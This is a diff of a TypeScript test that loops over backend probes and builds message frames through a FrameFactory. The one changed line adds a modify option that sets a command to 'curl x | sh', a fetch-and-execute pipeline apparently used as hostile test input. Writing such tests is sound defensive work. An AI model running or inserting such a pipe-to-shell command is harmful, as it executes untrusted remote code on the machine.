@@ -99,7 +99,7 @@ describe('every frame the backend suite sends', () => {
     let checked = 0;
     for (const probe of BACKEND_PROBES) {
       for (const binding of bindings.filter((b) => appliesTo(probe, b))) {
-        const f = new FrameFactory({ allow, deny: DENY_INPUT }, Date.now);
+        const f = new FrameFactory({ allow, deny: DENY_INPUT, modify: { command: 'curl x | sh' } }, Date.now);
         for (const s of stepsFor(probe, true)) {
           const frame = f.build(s.frame);
           const message = JSON.parse(frame.text) as JsonValue;
